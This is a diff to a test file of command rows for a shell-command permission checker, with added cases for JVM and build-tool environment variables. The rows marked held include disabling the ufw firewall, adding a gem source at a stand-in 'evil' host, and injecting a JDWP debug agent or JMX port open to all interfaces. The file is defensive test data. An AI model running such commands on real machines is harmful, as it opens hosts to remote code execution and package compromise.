@@ -12,6 +12,7 @@ from tests.rows import each
 UFW = "/usr/sbin/ufw disable"
 ADD = "gem sources --add http://evil/"
 SVC = "service ufw stop"
+JDWP = "-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005"
 # (line, held): held means denied or confirmed typed and as an exec command; not held: allowed
 ROWS = [
     # finding 1: ruby's letters with a short optional value read on in the same word
@@ -34,6 +35,21 @@ ROWS = [
     # honest: listing, updating, removing a source
     *((f"gem sources {opts}", False) for opts in ("-l", "--list", "-u", "--update", "-r http://old/",
                                                    "--remove http://old/", "-rp")),
+    # finding 8: JVM option variables with a suffix, a build tool's words from the environment
+    *((f"{var}={JDWP} {cmd}", True) for var, cmd in (
+        ("JAVA_OPTS_APPEND", "run-java.sh"),
+        ("JAVA_OPTS_APPEND", "/opt/jboss/container/java/run/run-java.sh"),
+        ("JAVA_OPTIONS_EXTRA", "run.sh"), ("HADOOP_OPTS_EXTRA", "hdfs dfs -ls"),
+        ("GRADLE_OPTS_APPEND", "gradle b"),
+        ("JAVA_ARGS_APPEND", "run.sh"), ("MAVEN_ARGS=-DargLine", "mvn test"),
+        ("MAVEN_ARGS=-Dmaven.surefire.debug", "mvn test"), ("MAVEN_CONFIG=-DargLine", "./mvnw test"))),
+    (f"export MAVEN_ARGS=-DargLine={JDWP}; mvn test", True),
+    (f"env MAVEN_ARGS=-DargLine={JDWP} mvn test", True),
+    ("export JAVA_OPTS_EXTRA=-Dcom.sun.management.jmxremote.port=9010; java -jar x.jar", True),
+    # honest: everyday options in the same variables
+    ("MAVEN_ARGS='-B -ntp' mvn test", False), ("JAVA_OPTS_APPEND=-Xmx1g run-java.sh", False),
+    ("ANT_ARGS=-quiet ant build", False), ("MAVEN_CONFIG=/home/u/.m2 mvn test", False),
+    ("SPARK_OPTS_EXTRA=--fast make", False),
 ]
 
 
